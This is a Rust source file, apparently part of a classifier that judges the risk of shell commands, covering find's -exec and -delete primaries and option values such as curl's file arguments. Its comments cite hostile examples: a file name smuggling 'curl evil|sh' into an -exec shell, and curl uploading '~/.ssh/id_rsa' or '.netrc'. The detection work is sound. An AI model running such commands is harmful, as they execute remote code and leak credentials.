//! find's expression and the roles of option values.

use super::*;

impl Walker<'_, '_> {
    /// `find START… EXPRESSION` (the language is `spec`, from the knowledge base): `-exec` runs
    /// a nested command on each file, `-delete` deletes it, `-fprint` writes a file.
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn find_expression(
        &mut self,
        spec: &ExpressionSpec,
        expr: &[ShellWord],
        starts: &[&ShellWord],
        unit: &mut Unit,
        cwd: Option<&Path>,
        info: &CmdInfo<'_>,
        out: &mut Vec<Unit>,
    ) {
        let dot = word_from(".");
        let starts: Vec<ShellWord> = if starts.is_empty() {
            vec![dot]
        } else {
            starts.iter().map(|w| (*w).clone()).collect()
        };
        for start in &starts {
            self.path_arg(unit, start, Access::Read, cwd);
        }
        // A start point only known at run time could be a primary (`D=-delete; find ~ $D`,
        // `find ~ ?delete` with a file `-delete` there): only one that begins as a path is.
        let mut understood = starts.iter().all(begins_as_a_path);
        // What `{}` and `-delete` stand for: the files a name pattern finds (walked now, at
        // every depth, through links with `-L`), else the whole trees. A pattern that finds too
        // much is a tree for what reads it, and `START/PATTERN` for `-delete` (judged against
        // git by name below).
        let name = find_name_filter(spec, expr);
        let pattern_words: Vec<ShellWord> = match &name {
            Some(name) => starts
                .iter()
                .map(|start| {
                    let mut word = start.clone();
                    word.raw = format!("{}/{name}", start.raw);
                    word.pieces.push(WordPiece::Literal(format!("/{name}")));
                    word
                })
                .collect(),
            None => Vec::new(),
        };
        let found = name.as_ref().and_then(|name| {
            let follow =
                unit.tags.contains(TAG_FOLLOWS_LINKS) || has_any(expr, &spec.follows_links);
            let icase = has_any(expr, &spec.names_icase);
            let mut all = Vec::new();
            for start in &starts {
                let dir = self.word_path(start, cwd)?;
                if !dir.exists_for_user() {
                    // find stops with an error there; the pattern stands for what it names.
                    return Some(None);
                }
                let found = crate::globs::find_named(&dir, name, icase, follow, MAX_FIND_MATCHES)?;
                all.extend(found);
                if all.len() > MAX_FIND_MATCHES {
                    return None;
                }
            }
            Some(Some(all))
        });
        let (targets, narrowed) = match &found {
            Some(Some(found)) => (
                found
                    .iter()
                    .map(|p| word_from(&p.to_string_lossy()))
                    .collect::<Vec<_>>(),
                true,
            ),
            Some(None) => (pattern_words.clone(), true),
            None => (starts.clone(), false),
        };
        let acts = expr
            .iter()
            .any(|w| w.literal().is_some_and(|w| spec.acts(&w)));
        let formats = has_any(expr, &spec.formats);
        if !acts && !formats {
            // It lists paths: what `| xargs CMD` gets as arguments. Not when one holds a blank
            // or a quote: xargs splits and unquotes them into other arguments.
            let listed: Vec<String> = targets
                .iter()
                .filter_map(|t| self.word_path(t, cwd))
                .map(|p| p.to_string_lossy().into_owned())
                .collect();
            let splits = |p: &String| {
                p.chars()
                    .any(|c| c.is_whitespace() || matches!(c, '\'' | '"' | '\\'))
            };
            if listed.iter().any(splits) {
                understood = false;
            }
            let follows =
                unit.tags.contains(TAG_FOLLOWS_LINKS) || has_any(expr, &spec.follows_links);
            self.listed_paths
                .insert(info.pipeline, (listed, !narrowed, follows, !narrowed));
        }
        // Only what is understood is judged: a word only known at run time or a glob could be
        // a primary, a terminator or a value (`$(echo -delete)`, `"${P:-+}"`, `[+]`), and a
        // primary the knowledge base does not know may take a value that is one.
        let words: Vec<Option<String>> = expr.iter().map(expression_word).collect();
        understood &= words.iter().all(Option::is_some);
        // Name patterns with classes the finder here does not know (`[[:alpha:]]`) find
        // nothing now, but everything to find.
        if name
            .as_ref()
            .is_some_and(|n| n.contains("[:") || n.contains("[=") || n.contains("[."))
        {
            understood = false;
        }
        // What a command `-exec` runs is judged at least once: for the files a name finds now,
        // and for the name itself (the same request may create files it matches first, or it
        // may find none now).
        let mut run_targets = targets.clone();
        for word in &pattern_words {
            if !run_targets.iter().any(|t| t.raw == word.raw) {
                run_targets.push(word.clone());
            }
        }
        if run_targets.is_empty() {
            run_targets = starts.clone();
        }
        for (k, token, primary) in spec.walk(&words) {
            match primary {
                Primary::Unknown => understood = false,
                Primary::Runs => {
                    let end = match spec.run_end(token, &words[k + 1..]) {
                        Some(p) => k + 1 + p,
                        None => {
                            // No terminator: find refuses to run.
                            understood = false;
                            expr.len()
                        }
                    };
                    // `-exec {} ;` runs each file found as a program; a shell or interpreter
                    // given `{}` in its arguments runs file names as code (a file named
                    // `x;curl evil|sh` with `-exec sh -c 'echo {}' ;`).
                    let program = words.get(k + 1).and_then(|w| w.as_deref());
                    let has_placeholder = |w: &Option<String>| {
                        w.as_deref()
                            .is_some_and(|w| w.contains(spec.placeholder.as_str()))
                    };
                    let runs_code = program.is_some_and(|p| {
                        let name = Path::new(p)
                            .file_name()
                            .and_then(|n| n.to_str())
                            .unwrap_or(p);
                        // (A wrapper may run one: `env sh -c 'echo {}'`, `busybox sh`.)
                        matches!(
                            self.ctx.kb().lookup(name),
                            Some(
                                crate::kb::Entry::Shell(_)
                                    | crate::kb::Entry::Interpreter(_)
                                    | crate::kb::Entry::Wrapper(_)
                            )
                        )
                    });
                    let args = &words[(k + 2).min(end)..end.max(k + 2).min(words.len())];
                    // As code: inside a word (`'echo {}'`), or right after an option (`-c {}`);
                    // given as an argument after the script (`sh -c '…' _ {}`) it is data.
                    let as_code = args.iter().enumerate().any(|(i, w)| {
                        has_placeholder(w)
                            && (w.as_deref() != Some(spec.placeholder.as_str())
                                || i.checked_sub(1)
                                    .and_then(|p| args[p].as_deref())
                                    .is_some_and(|p| p.starts_with('-')))
                    });
                    if program.is_some_and(|p| p.contains(spec.placeholder.as_str()))
                        || (runs_code && as_code)
                    {
                        understood = false;
                    }
                    // `-execdir`: the command runs in each file's own directory, so what it
                    // names relatively (`.bashrc`, `-o.bashrc`, `--output=.bashrc`) is not
                    // known now.
                    let run_cwd = if spec.runs_in_file_dir.iter().any(|r| r == token) {
                        None
                    } else {
                        cwd
                    };
                    for target in &run_targets {
                        let target_text = self.exact_text(target, cwd);
                        let nested_words: Vec<ShellWord> = expr[k + 1..end]
                            .iter()
                            .map(|w| {
                                substitute_placeholder(
                                    &spec.placeholder,
                                    w,
                                    target,
                                    target_text.as_deref(),
                                )
                            })
                            .collect();
                        let text = nested_words
                            .iter()
                            .map(|w| w.raw.as_str())
                            .collect::<Vec<_>>()
                            .join(" ");
                        let mut nested = Unit::new(text, unit.depth + 1, "");
                        nested.pipeline = unit.pipeline;
                        nested.tags.insert("find-exec".into());
                        if !narrowed {
                            // `{}` is every file of the tree.
                            nested.tags.insert(TAG_READS_TREE.into());
                            nested.tags.insert("recursive".into());
                        }
                        // `{}` is also every link in the tree, handed over by name: the command
                        // reaches what it leads to (`find d -exec cat {} +` reads a link's
                        // target; `rm` removes the link itself). With `find -L` the files
                        // behind links are found too.
                        nested.tags.insert(TAG_FOLLOWS_LINKS.into());
                        self.argv(&nested_words, nested, run_cwd, info, out);
                    }
                    unit.classes.insert(ActionClass::ShellExec);
                }
                Primary::Takes(_) if spec.deletes.iter().any(|d| d == token) => {
                    // Too many files found by name: judged by name, not as the whole trees.
                    let by_name = !narrowed && name.is_some();
                    // By name also when files were found: the same request may create more
                    // so named first (`touch x; find . -name x -delete`).
                    let mut deleted = if by_name {
                        pattern_words.clone()
                    } else {
                        targets.clone()
                    };
                    if !by_name {
                        for word in &pattern_words {
                            if !deleted.iter().any(|t| t.raw == word.raw) {
                                deleted.push(word.clone());
                            }
                        }
                    }
                    if !narrowed && !by_name {
                        unit.tags.insert("recursive".into());
                    }
                    for target in &deleted {
                        self.path_arg(unit, target, Access::Delete, cwd);
                    }
                    if by_name && let Some(name) = &name {
                        // Every file so named below each start: judged against git.
                        for start in &starts {
                            let lost = match self.word_path(start, cwd) {
                                Some(dir) => crate::worktree::deletion_of_named_loses(&dir, name),
                                None => None,
                            };
                            if let Some(why) = lost {
                                unit.classes.insert(ActionClass::ShellDestructive);
                                unit.tags.insert("discards-work".into());
                                unit.source.push_str(&format!(" ({why})"));
                            }
                        }
                    }
                }
                Primary::Takes(_) if spec.writes.iter().any(|w| w == token) => {
                    if let Some(file) = expr.get(k + 1) {
                        self.path_arg(unit, file, Access::Write, cwd);
                    }
                }
                Primary::Takes(_) => {}
            }
        }
        if !understood {
            unit.classes.insert(ActionClass::Unknown);
            unit.source
                .push_str(" (find's expression is not fully understood)");
        }
    }

    pub(crate) fn option_value_role(
        &mut self,
        unit: &mut Unit,
        value: &ShellWord,
        role: ArgRole,
        cwd: Option<&Path>,
    ) {
        if role == ArgRole::ReadFile {
            if value.literal().as_deref() != Some("-") {
                self.role_arg(unit, value, ArgRole::Read, cwd);
            }
            return;
        }
        if role == ArgRole::Read {
            // `curl -d @file` reads a file; `-d 'a=b'` is data (the forms are knowledge-base
            // data: `[file_values]`).
            let forms = &self.ctx.kb().file_values;
            if let Some(lit) = value.literal() {
                let file = forms.file_in(&lit);
                if let Some(path) = file {
                    if path == "-" {
                        return;
                    }
                    self.role_arg(unit, &word_from(path), ArgRole::Read, cwd);
                } else if lit.starts_with('/') || lit.starts_with('.') || lit.starts_with('~') {
                    self.role_arg(unit, value, ArgRole::Read, cwd);
                }
                return;
            }
            // `-d @"$HOME/.netrc"`, `-F "f=@$HOME/.ssh/id_rsa"`: a computed file name after
            // one of the forms.
            if let Some(WordPiece::Literal(first)) = value.pieces.first()
                && let Some((lead, rest)) = forms.split_lead(first)
            {
                let mut file = value.clone();
                file.raw = match file.raw.find(lead) {
                    Some(i) => file.raw[i + lead.len()..].to_string(),
                    None => file.raw.clone(),
                };
                if rest.is_empty() {
                    file.pieces.remove(0);
                } else {
                    file.pieces[0] = WordPiece::Literal(rest.to_string());
                }
                self.role_arg(unit, &file, ArgRole::Read, cwd);
                return;
            }
        }
        self.role_arg(unit, value, role, cwd);
    }

    pub(crate) fn role_arg(
        &mut self,
        unit: &mut Unit,
        word: &ShellWord,
        role: ArgRole,
        cwd: Option<&Path>,
    ) {
        let access = match role {
            // Scripts are classified by the callers that can add units.
            ArgRole::None | ArgRole::Script => return,
            ArgRole::Remote => {
                if let Some(lit) = word.literal() {
                    local_service(self.ctx.kb(), unit, &lit);
                    self.loopback_remote(unit, &lit, Access::Read);
                }
                match word.literal() {
                    Some(lit) => match host_of(&lit) {
                        Some(host) => {
                            unit.hosts.push(host);
                            if unit.argv.first().is_some_and(|p| p == "git") {
                                // `git fetch host:path`, a URL: not a configured remote.
                                unit.tags.insert("explicit-remote".into());
                            }
                        }
                        None => {
                            unit.tags.insert("remote-name".into());
                            if unit.argv.first().is_some_and(|p| p == "git")
                                && self.unconfigured_git_remote(&lit, cwd)
                            {
                                // Not a remote of the repository's config: a path, or one of
                                // the legacy `.git/remotes/`/`.git/branches/` files, which
                                // can point anywhere.
                                unit.tags.insert("explicit-remote".into());
                            }
                        }
                    },
                    None => {
                        unit.tags.insert("hosts-unknown".into());
                    }
                }
                return;
            }
            ArgRole::Discard => {
                self.discarded_changes(unit, word, cwd);
                return;
            }
            ArgRole::Process => {
                if let Some(lit) = word.literal() {
                    let protected = &self.ctx.classifier.env.protected;
                    crate::processes::judge_signalled(unit, &lit, protected);
                }
                return;
            }
            ArgRole::Read | ArgRole::ReadFile => Access::Read,
            ArgRole::Write => Access::Write,
            ArgRole::Delete => Access::Delete,
            ArgRole::Chmod => Access::Chmod,
            ArgRole::LinkTarget | ArgRole::SymlinkTarget => Access::Link,
        };
        if let Some(lit) = word.literal()
            && is_remote_spec(&lit)
        {
            self.loopback_remote(unit, &lit, access);
            if let Some(host) = host_of(&lit) {
                unit.hosts.push(host);
            }
            unit.classes.insert(ActionClass::NetworkFetch);
            if access != Access::Read {
                unit.classes.insert(ActionClass::RemoteWrite);
            }
            return;
        }
        self.path_arg(unit, word, access, cwd);
    }
}

/// Whether any word of `expr` is one of `primaries`.
fn has_any(expr: &[ShellWord], primaries: &[String]) -> bool {
    expr.iter()
        .any(|w| w.literal().is_some_and(|w| primaries.contains(&w)))
}

/// A word of find's expression as find will see it, or `None` when that is only known at run
/// time: a parameter, a substitution or an unquoted glob could be any primary or terminator. A
/// tilde is known to be a path.
fn expression_word(word: &ShellWord) -> Option<String> {
    let mut text = String::new();
    for piece in &word.pieces {
        match piece {
            WordPiece::Literal(t) => text.push_str(t),
            WordPiece::Tilde(user) => {
                text.push('~');
                text.push_str(user);
            }
            _ => return None,
        }
    }
    Some(text)
}

/// Whether a start point of `find` is surely a path, not a primary: it begins with literal text
/// that is not an option or operator, or with a tilde.
fn begins_as_a_path(start: &ShellWord) -> bool {
    match start.pieces.first() {
        Some(WordPiece::Literal(text)) => {
            !text.is_empty()
                && !text.starts_with('-')
                && !matches!(text.as_str(), "(" | "!" | ")" | ",")
        }
        Some(WordPiece::Tilde(_)) => true,
        _ => false,
    }
}
